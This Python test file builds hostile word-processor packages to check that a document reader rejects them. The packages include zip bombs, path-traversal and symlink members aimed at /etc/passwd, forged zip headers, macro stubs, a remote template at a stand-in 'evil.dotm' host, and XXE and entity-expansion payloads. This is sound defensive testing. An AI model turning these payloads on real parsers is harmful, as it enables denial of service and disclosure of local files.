"""Word processors' files, which are zips: bombs, lies, entities, macros, climbing names."""

import io
import stat
import struct
import warnings
import zipfile
from collections.abc import Callable

from rolecall.candidates.reading import Limits, Reason
from tests.candidates.hostile.case import READ, Case, case, endless
from tests.candidates.reading.hostile import body, docx, paragraph

ADA, EVE = paragraph("Ada Example"), body(paragraph("Eve Other"))
ODT_XML = (
    '<?xml version="1.0"?>{prolog}<office:document-content '
    'xmlns:office="urn:oasis:names:tc:opendocument:xmlns:office:1.0" '
    'xmlns:text="urn:oasis:names:tc:opendocument:xmlns:text:1.0"><office:body><office:text>'
    "<text:p>Ada Example</text:p>{inner}</office:text></office:body></office:document-content>"
)
CLAIMED = 2**30


def odt(inner: str = "", prolog: str = "") -> bytes:
    file = io.BytesIO()
    with zipfile.ZipFile(file, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("mimetype", "application/vnd.oasis.opendocument.text", zipfile.ZIP_STORED)
        archive.writestr("content.xml", ODT_XML.format(inner=inner, prolog=prolog))
    return file.getvalue()


def with_more(data: bytes, add: Callable[[zipfile.ZipFile], None]) -> bytes:
    file = io.BytesIO(data)
    with zipfile.ZipFile(file, "a", zipfile.ZIP_DEFLATED) as archive:
        add(archive)
    return file.getvalue()


def zips_in_zips() -> bytes:
    """Ten megabytes of nothing, packed five times into one another, eight at each step."""
    inner = b"\0" * 10_000_000
    for depth in range(5):
        file = io.BytesIO()
        with zipfile.ZipFile(file, "w", zipfile.ZIP_DEFLATED) as archive:
            for copy in range(8 if depth else 1):
                archive.writestr(f"{depth}-{copy}.zip", inner)
        inner = file.getvalue()
    return with_more(docx(body(ADA)), lambda archive: archive.writestr("word/embeddings/a.zip", inner))


def climbing_names() -> bytes:
    """Members that would be written outside, and a link to a file of ours."""

    def add(archive: zipfile.ZipFile) -> None:
        archive.writestr("../../../../tmp/climbed", "x")
        archive.writestr("/etc/climbed", "x")
        link = zipfile.ZipInfo("word/header1.xml")
        link.external_attr = (stat.S_IFLNK | 0o777) << 16
        archive.writestr(link, "/etc/passwd")

    return with_more(docx(body(ADA)), add)


def two_bodies() -> bytes:
    """Two members of one name: readers that disagree show different texts."""
    with warnings.catch_warnings(action="ignore"):  # the library knows that names are to differ
        return with_more(docx(body(ADA)), lambda archive: archive.writestr("word/document.xml", EVE))


def claims_a_gigabyte() -> bytes:
    data = bytearray(docx(body(ADA)))
    for mark, offset in ((b"PK\x03\x04", 22), (b"PK\x01\x02", 24)):
        at = data.find(mark)
        while at >= 0:
            data[at + offset : at + offset + 4] = struct.pack("<I", CLAIMED)
            at = data.find(mark, at + 4)
    return bytes(data)


def members_on_top_of_each_other() -> bytes:
    """Every entry of the table of contents is the same large member."""
    file = io.BytesIO()
    with zipfile.ZipFile(file, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("[Content_Types].xml", "<Types/>")
        archive.writestr("word/document.xml", body(paragraph("a" * 9_000_000)))
    data = file.getvalue()
    start = data.index(b"PK\x01\x02")
    entry_at = data.index(b"PK\x01\x02", start + 4)
    end_at = data.index(b"PK\x05\x06")
    entry = data[entry_at:end_at]
    names = [entry.replace(b"word/document.xml", b"word/header%02d.xml." % at) for at in range(50)]
    table = data[start:end_at] + b"".join(names)
    end = struct.pack("<4s4H2IH", b"PK\x05\x06", 0, 0, 52, 52, len(table), start, 0)
    return data[:start] + table + end


def locked_member() -> bytes:
    data = bytearray(docx(body(ADA)))
    for mark, offset in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
        at = data.find(mark)
        while at >= 0:
            data[at + offset] |= 1
            at = data.find(mark, at + 4)
    return bytes(data)


def macros() -> bytes:
    def add(archive: zipfile.ZipFile) -> None:
        archive.writestr("word/vbaProject.bin", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1 Sub AutoOpen() Shell")
        archive.writestr("word/_rels/settings.xml.rels", TEMPLATE)
        archive.writestr("word/activeX/activeX1.bin", b"MZ\x90\0")

    return with_more(docx(body(ADA)), add)


TEMPLATE = (
    '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
    '<Relationship Id="r1" '
    'Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/'
    'attachedTemplate" '
    'Target="http://127.0.0.1:9/evil.dotm" TargetMode="External"/></Relationships>'
)
QUADRATIC = '<!DOCTYPE d [<!ENTITY a "{}">]>'.format("a" * 50_000)
OUTSIDE = '<!DOCTYPE d SYSTEM "http://127.0.0.1:9/d.dtd" [<!ENTITY % p SYSTEM "file:///etc/passwd">%p;]>'
TABLES = "<w:tbl><w:tr><w:tc>" * 3_000 + ADA + "</w:tc></w:tr></w:tbl>" * 3_000

PACKAGES: dict[str, Case] = {
    "zips in zips": case(zips_in_zips, READ, says="Ada Example"),
    "an ODT bomb": Case(
        lambda: odt(f"<text:p>{'a' * 9_000_000}</text:p>"),
        frozenset({Reason.TOO_LARGE}),
        Limits(inflated=2**20),
    ),
    "an ODT of outside entities": case(lambda: odt("<text:p>&x;</text:p>", OUTSIDE), READ, Reason.DAMAGED),
    "quadratic entities": case(
        lambda: odt("<text:p>" + "&a;" * 20_000 + "</text:p>", QUADRATIC),
        READ,
        Reason.DAMAGED,
        Reason.TOO_LARGE,
    ),
    "names that climb": case(climbing_names, READ, Reason.DAMAGED),
    "two bodies": case(two_bodies, READ, Reason.DAMAGED),
    "a gigabyte, it says": case(claims_a_gigabyte, READ, Reason.DAMAGED, Reason.TOO_LARGE),
    "members on top of each other": case(
        members_on_top_of_each_other, READ, Reason.DAMAGED, Reason.TOO_LARGE
    ),
    "a member with a password": case(locked_member, Reason.ENCRYPTED, Reason.DAMAGED),
    "macros and a template from elsewhere": case(macros, READ, says="Ada Example"),
    "three thousand tables in tables": endless(lambda: docx(body(TABLES)), READ, Reason.DAMAGED),
    "a hundred thousand runs": endless(
        lambda: docx(body("<w:p>" + "<w:r><w:t>a </w:t></w:r>" * 100_000 + "</w:p>")), READ, Reason.TOO_LARGE
    ),
    "an ODT of deep lists": endless(
        lambda: odt("<text:list><text:list-item>" * 20_000), READ, Reason.DAMAGED
    ),
}
